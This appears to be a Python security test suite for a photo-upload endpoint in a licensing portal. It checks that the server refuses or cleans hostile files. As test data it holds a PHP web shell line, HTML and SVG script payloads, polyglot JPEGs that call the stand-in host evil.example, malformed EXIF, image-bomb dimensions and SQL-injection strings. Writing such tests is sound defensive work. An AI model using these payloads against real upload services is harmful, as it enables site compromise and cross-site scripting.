# SPDX-License-Identifier: Apache-2.0
"""Uploads that are no photos, or more than photos."""

import datetime
import struct
import time

from portal.case import Attack, attack
from portal.http_client import Answer
from portal.place import records
from portal.world import Applicant, World

MARKS = [b"<script", b"<html", b"PK\x03\x04", b"PK\x05\x06", b"Exif", b"GPS", b"evil.example", b"<?xml", b"JFXX"]
HTML = b"<html><script src=//evil.example></script></html>"
ZIP = (b"PK\x03\x04" + bytes(26) + b"evil.example" + b"PK\x01\x02" + bytes(42) +
       b"PK\x05\x06" + bytes(4) + struct.pack("<HHIIH", 1, 1, 46, 42, 0))
PNG = (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0\x90wS\xde"
       b"\0\0\0\x0cIDAT\x08\xd7c\xf8\xcf\xc0\0\0\3\1\1\0\x18\xdd\x8d\xb0\0\0\0\0IEND\xaeB`\x82")
OTHERS = [PNG, b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;",
          b"RIFF\x1a\0\0\0WEBPVP8L\r\0\0\0/\0\0\0\x10\7\x10\x11\x11\x88\x88\xfe\7\0",
          b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', HTML, b"%PDF-1.4\n%%EOF\n",
          b"<?php system($_GET['x']); ?>", b"#!/bin/sh\n", b"BM" + bytes(60), b"\xff", b"\xff\xd8"[::-1] * 20]


def segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def with_segments(jpeg: bytes, *segments: bytes) -> bytes:
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def exif(orientation: int, count: int = 1, loop: bool = False) -> bytes:
    """Orientation, a place and a pointer to itself or to far beyond the end."""
    entries = [struct.pack("<HHII", 0x0112, 3, count, orientation),
               struct.pack("<HHII", 0x8825, 4, 1, 8 if loop else 0xFFFFFFF0),
               struct.pack("<HHII", 0x0201, 4, 1, 0x7FFFFFFF)]
    directory = struct.pack("<H", len(entries)) + b"".join(entries) + struct.pack("<I", 8 if loop else 0)
    return segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0" + directory + b"GPS evil.example")


def drafting(world: World) -> tuple[Applicant, str]:
    who = world.applicant()
    return who, who.open("CAMERA")


def upload(trial: Attack, who: Applicant, application: str, photo: bytes, **how: str | None) -> Answer:
    """Refusals are not counted: it is not their number that is tried."""
    records("UPDATE drivers SET uploads = 0 WHERE number = ?", who.driver["number"])
    return trial.refused(who, "POST", f"/v1/applications/{application}/photo", body=photo,
                         kind=how.get("kind", "image/jpeg"))


def refuse(trial: Attack, world: World, photos: list[bytes], *rules: str) -> None:
    who, application = drafting(world)
    for photo in photos:
        answer = upload(trial, who, application, photo)
        trial.expect(f"rules that {photo[:12]!r} breaks",
                     [one["rule"] for one in answer.json["failures"]][:1], [*rules][:1])
        trial.expect("has a photo", answer.json["application"]["has_photo"], False)


def sized(jpeg: bytes, width: int, height: int) -> bytes:
    at = jpeg.index(b"\xff\xc0")
    return jpeg[:at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9:]


@attack
def photo_bomb(world: World, trial: Attack) -> None:
    start = time.monotonic()
    refuse(trial, world, [sized(world.good, 65500, 65500), sized(world.good, 65500, 700), sized(world.good, 1, 1)],
           "DIMENSIONS")
    trial.expect("quick", time.monotonic() - start < 10, True)


@attack
def photo_truncated(world: World, trial: Attack) -> None:
    good = world.good
    refuse(trial, world, [good[:len(good) // 2], good[:-2000], good[:600], sized(good, 0, 0)], "DAMAGED")
    refuse(trial, world, [b""], "FORMAT")


@attack
def photo_of_other_format(world: World, trial: Attack) -> None:
    refuse(trial, world, [*OTHERS, HTML + world.good], "FORMAT")


def stored(trial: Attack, world: World, photo: bytes) -> None:
    """Accepted, and clean wherever it comes back."""
    who, application = drafting(world)
    upload(trial, who, application, photo)
    answer = who.get(f"/v1/applications/{application}/photo")
    kept = records("SELECT jpeg FROM photos p JOIN applications a ON a.photo = p.id WHERE a.id = ?", application)
    trial.expect("kind", answer.headers["Content-Type"], "image/jpeg")
    trial.expect("kept as it comes back", kept[0][0] == answer.body, True)
    trial.expect("JPEG from first to last", (answer.body[:3], answer.body[-2:]), (b"\xff\xd8\xff", b"\xff\xd9"))
    trial.expect("marks", [mark for mark in MARKS if mark in answer.body], [])


@attack
def photo_polyglot(world: World, trial: Attack) -> None:
    good = world.good
    for photo in (good + HTML, good + ZIP, with_segments(good, segment(0xFE, HTML)),
                  with_segments(good, segment(0xE0, b"JFXX\0" + HTML), segment(0xED, b"Photoshop 3.0\0" + HTML)),
                  with_segments(good, segment(0xFE, b"*/=1;fetch('//evil.example')/*")), good + good):
        stored(trial, world, photo)


@attack
def photo_exif(world: World, trial: Attack) -> None:
    good = world.good
    for photo in (with_segments(good, exif(1)), with_segments(good, exif(1, loop=True)),
                  with_segments(good, exif(99)), with_segments(good, exif(1, 0xFFFFFFFF)),
                  with_segments(good, *[exif(1)] * 20),
                  with_segments(good, segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<?xml evil.example?>")),
                  with_segments(good, segment(0xE2, b"ICC_PROFILE\0\1\1" + b"evil.example" * 4000))):
        stored(trial, world, photo)


@attack
def photo_too_large(world: World, trial: Attack) -> None:
    who, application = drafting(world)
    for photo in (bytes(16 << 20), world.good + bytes((16 << 20) - len(world.good)), bytes((4 << 20) + 1)):
        upload(trial, who, application, photo)
    trial.expect("the good one", who.upload(application, world.good).status, 200)


@attack
def photo_of_other_type(world: World, trial: Attack) -> None:
    who, application = drafting(world)
    for kind in ("image/png", "text/html", None, "image/svg+xml", "image/jpegx", "application/octet-stream"):
        upload(trial, who, application, world.good, kind=kind)
    trial.expect("has a photo", who.get(f"/v1/applications/{application}").json["has_photo"], False)


@attack
def photo_too_late(world: World, trial: Attack) -> None:
    who, application = world.confirmed()
    upload(trial, who, application, world.good)
    who.post(f"/v1/applications/{application}/withdraw")
    upload(trial, who, application, world.good)
    other, waiting = world.in_review()
    upload(trial, other, waiting, world.good)


@attack
def photo_of_no_day(world: World, trial: Attack) -> None:
    who = world.applicant()
    application = who.open("ALBUM")
    ahead = datetime.date.today() + datetime.timedelta(days=2)
    for taken in ("", "x", "2026-02-30", "2026-13-01", "2026-1-1", "01.01.2026", str(ahead), "1969-12-31", "9999-12-31",
                  "2001-01-01", "2026-01-01%00", "2026-01-01'--", "-1", "%e9%a9%be"):
        trial.refused(who, "POST", f"/v1/applications/{application}/photo?taken={taken}", body=world.good,
                      kind="image/jpeg")
    trial.refused(who, "POST", f"/v1/applications/{application}/photo", body=world.good, kind="image/jpeg")


@attack
def scan_of_other_format(world: World, trial: Attack) -> None:
    for picture in (PNG, HTML, world.good[:500]):
        trial.refused(world.inspector, "POST", "/v1/scan", body=picture, kind="image/jpeg")
